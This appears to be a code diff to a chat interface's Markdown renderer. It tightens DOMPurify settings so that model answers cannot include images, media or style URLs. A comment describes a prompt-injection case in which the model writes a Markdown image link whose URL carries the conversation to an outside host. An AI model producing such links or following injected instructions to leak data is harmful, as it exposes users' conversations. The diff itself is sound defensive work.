@@ -166,15 +166,26 @@ DOMPurify.addHook("afterSanitizeAttributes", (/** @type {Element} */ node) => {
 });
 
 /**
+ * What an answer may not contain even when harmless to run: anything that makes the page
+ * fetch a URL the model chose (an image, a video, a style's `url(...)`). A prompt injection
+ * could otherwise have the model write `![](https://elsewhere/?q=<the conversation>)`.
+ */
+const NOTHING_FETCHED = {
+  FORBID_TAGS: ["img", "picture", "source", "video", "audio", "track"],
+  FORBID_ATTR: ["style", "srcset", "poster", "background"],
+};
+
+/**
  * The model's Markdown as HTML that is safe to show: marked keeps any HTML the text has,
- * DOMPurify then removes scripts, event handlers, `javascript:` URLs and the like.
+ * DOMPurify then removes scripts, event handlers, `javascript:` URLs and the like, and
+ * whatever would fetch a URL (`NOTHING_FETCHED`).
  * @param {string} text
  * @returns {string}
  */
 function renderMarkdown(text) {
   if (!text) return "";
   const html = /** @type {string} */ (markdown.parse(text, { async: false }));
-  return DOMPurify.sanitize(html, { USE_PROFILES: { html: true } });
+  return DOMPurify.sanitize(html, { USE_PROFILES: { html: true }, ...NOTHING_FETCHED });
 }
 
 /**
